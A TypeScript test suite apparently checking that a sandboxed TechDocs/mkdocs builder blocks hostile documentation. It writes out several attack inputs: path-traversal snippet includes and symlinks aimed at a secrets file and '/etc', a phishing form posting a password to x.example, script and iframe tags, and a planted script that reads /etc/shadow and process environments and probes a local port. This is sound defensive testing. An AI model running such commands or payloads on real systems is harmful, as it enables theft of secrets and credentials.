import { mockServices } from '@backstage/backend-test-utils';
import { ConfigReader } from '@backstage/config';
import { openJail } from '@towpath/jail';
import fs from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { type DocsJail, JailedGenerator } from './JailedGenerator';

const MKDOCS = path.resolve(__dirname, '../../../../.towpath/tools/docs/bin');
// "npm run setup" brings it; the tables beside this file need none.
const hasMkdocs = fs.existsSync(path.join(MKDOCS, 'mkdocs'));
const describeBuilds = hasMkdocs ? describe : describe.skip;
const BUILD_MS = 120_000;

let home: string;
let jail: DocsJail;
const before = process.env.PATH;

beforeAll(async () => {
  process.env.PATH = [MKDOCS, before].join(path.delimiter);
  home = fs.mkdtempSync(path.join(os.tmpdir(), 'towpath-docs-test-'));
  fs.writeFileSync(path.join(home, 'secrets.json'), 'hush-file');
  jail = await openJail();
});

afterAll(() => {
  process.env.PATH = before;
  fs.rmSync(home, { recursive: true, force: true });
});

interface Built {
  page: (file?: string) => string;
  files: string[];
  log: string;
}

async function build(
  files: Record<string, string>,
  options: {
    mode?: string;
    jail?: DocsJail;
    prepare?: (folder: string) => void;
  } = {},
): Promise<Built> {
  const inputDir = fs.mkdtempSync(path.join(home, 'in-'));
  const outputDir = fs.mkdtempSync(path.join(home, 'out-'));
  for (const [file, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(inputDir, file)), { recursive: true });
    fs.writeFileSync(path.join(inputDir, file), text);
  }
  options.prepare?.(inputDir);
  let log = '';
  const logger = Object.assign(mockServices.logger.mock(), {
    warn: (line: string) => (log += `${line}\n`),
  });
  const generator = new JailedGenerator({
    config: new ConfigReader({
      techdocs: { generator: { runIn: 'local' } },
      towpath: { mode: options.mode ?? 'sandbox' },
    }),
    logger,
    jail: options.jail ?? jail,
    clock: () => 1_700_000_000_000,
  });
  await generator.run({
    inputDir,
    outputDir,
    etag: 'abc',
    logger: logger as never,
    logStream: { write: (chunk: Buffer) => (log += chunk) } as never,
    siteOptions: { name: 'Demo' },
  });
  return {
    page: (file = 'index.html') =>
      fs.readFileSync(path.join(outputDir, file), 'utf8'),
    files: fs.readdirSync(outputDir, { recursive: true }).map(String),
    log,
  };
}

describeBuilds('pages that anybody may push', () => {
  it(
    'are built with what TechDocs has, and described for the reader',
    async () => {
      const { page } = await build({
        'mkdocs.yml':
          'site_name: Payments\nsite_description: Money\nplugins: [techdocs-core]\nnav: [{Home: index.md}]',
        'docs/index.md':
          '# Hello\n\n!!! note\n    Careful\n\n```python\nprint(1)\n```\n',
      });
      expect(page()).toMatch(/admonition note[\s\S]*Careful/);
      expect(JSON.parse(page('techdocs_metadata.json'))).toMatchObject({
        site_name: 'Payments',
        site_description: 'Money',
        build_timestamp: 1_700_000_000_000,
        etag: 'abc',
        files: expect.arrayContaining(['index.html', 'techdocs_metadata.json']),
      });
    },
    BUILD_MS,
  );

  it(
    'may lie in the folder of their configuration, as those of the portal do',
    async () => {
      const { page } = await build({
        'mkdocs.yml':
          'site_name: Portal\ndocs_dir: .\nplugins: [techdocs-core]',
        'index.md': '# Start',
      });
      expect(page()).toMatch(/Start/);
    },
    BUILD_MS,
  );

  it(
    'show no file of the machine, by a link, a snippet, a picture or a drawing',
    async () => {
      const secret = path.join(home, 'secrets.json');
      const { page, files, log } = await build(
        {
          'mkdocs.yml': 'site_name: Demo',
          'docs/index.md': `# Hello\n\n--8<-- "${secret}"\n\n--8<-- "../../../../../..${secret}"\n\n--8<-- "stolen.md"\n`,
        },
        {
          prepare(folder) {
            fs.symlinkSync(secret, path.join(folder, 'docs/stolen.md'));
            fs.symlinkSync(secret, path.join(folder, 'docs/stolen.txt'));
            fs.symlinkSync('/', path.join(folder, 'docs/root'));
            fs.symlinkSync('root/etc', path.join(folder, 'docs/twice'));
          },
        },
      );
      expect(page()).not.toMatch(/hush/);
      expect(files.join()).not.toMatch(/stolen|root|twice/);
      expect(log).toMatch(/docs\/stolen\.md leads out of the repository/);
    },
    BUILD_MS,
  );

  it(
    'act in no way for whoever reads them',
    async () => {
      const { page } = await build({
        'mkdocs.yml': 'site_name: Demo',
        'docs/index.md':
          '# Hello\n\n<form action="https://x.example/in"><input name="password"></form>\n\n[go](javascript:alert(1))\n\n<meta http-equiv="refresh" content="0; url=https://x.example">\n',
        'docs/raw.html':
          '<script>alert(1)</script><iframe src="https://x.example"></iframe>',
      });
      expect(page() + page('raw.html')).not.toMatch(
        /x\.example|javascript:|<script|<iframe/,
      );
    },
    BUILD_MS,
  );

  it(
    'are refused with a configuration of another kind, which is named',
    async () => {
      await expect(
        build({
          'mkdocs.yml': 'site_name: Demo\nhooks: [evil.py]',
          'docs/index.md': '# Hello',
        }),
      ).rejects.toThrow(
        /mkdocs\.yml was refused.*• hooks is not allowed; allowed here: .*publish-docs-from-ci/s,
      );
      await expect(
        build(
          { 'docs/index.md': '# Hello' },
          {
            prepare: folder =>
              fs.symlinkSync(
                path.join(home, 'secrets.json'),
                path.join(folder, 'mkdocs.yml'),
              ),
          },
        ),
      ).rejects.toThrow('mkdocs.yml has to be a file');
    },
    BUILD_MS,
  );

  it(
    'leave the repository as it was',
    async () => {
      const content = 'site_name: Demo\n# A remark.\n';
      let folder = '';
      await build(
        { 'mkdocs.yml': content, 'docs/index.md': '# Hello' },
        { prepare: place => (folder = place) },
      );
      expect(fs.readFileSync(path.join(folder, 'mkdocs.yml'), 'utf8')).toBe(
        content,
      );
      expect(fs.readdirSync(folder).sort()).toEqual(['docs', 'mkdocs.yml']);
    },
    BUILD_MS,
  );
});

describe('a generator that does what it likes', () => {
  /** In the place of mkdocs: what an extension could do that got past every other guard. */
  function plantMkdocs(program: string): void {
    const bin = fs.mkdtempSync(path.join(home, 'bin-'));
    fs.writeFileSync(path.join(bin, 'mkdocs'), `#!/bin/sh\n${program}\n`, {
      mode: 0o755,
    });
    process.env.PATH = [bin, before].join(path.delimiter);
  }

  afterEach(() => {
    process.env.PATH = [MKDOCS, before].join(path.delimiter);
  });

  it(
    'finds no secret, no port and no way to write',
    async () => {
      const server = createServer(socket => socket.end('hush-port')).listen(
        0,
        '127.0.0.1',
      );
      await new Promise(resolve => server.once('listening', resolve));
      const { port } = server.address() as AddressInfo;
      process.env.SECRET_OF_A_TEST = 'hush-env';
      plantMkdocs(`mkdir -p site; { cat ${home}/secrets.json /etc/shadow; env; cat /proc/*/environ; ls ${home}
      python3 -c "import socket; print(socket.create_connection(('127.0.0.1', ${port})).recv(9))"
      echo planted > ${home}/planted; } > site/index.html 2>&1; ln -s ${home}/secrets.json site/secrets.html; exit 0`);
      const { page, files } = await build({
        'docs/index.md': '# Hello',
      }).finally(() => {
        server.close();
        delete process.env.SECRET_OF_A_TEST;
      });
      expect(page()).not.toMatch(jail.isClosed ? /hush|root:/ : /hush-env/);
      expect(files).not.toContain('secrets.html');
      expect(fs.existsSync(path.join(home, 'planted'))).toBe(!jail.isClosed);
    },
    BUILD_MS,
  );

  it(
    'is shown in its own words when it fails',
    async () => {
      plantMkdocs('echo "the theme is missing"; exit 3');
      await expect(build({ 'docs/index.md': '# Hello' })).rejects.toThrow(
        /ended with 3: the theme is missing/,
      );
    },
    BUILD_MS,
  );

  it('is refused in production where nothing locks it up', async () => {
    const open = {
      isClosed: false,
      gaps: 'reach the network',
      run: () => Promise.reject(new Error('it ran')),
    };
    await expect(
      build({ 'docs/index.md': '# Hello' }, { mode: 'production', jail: open }),
    ).rejects.toThrow(
      /cannot lock mkdocs up, so pages could reach the network.*builder: external/,
    );
  });
});
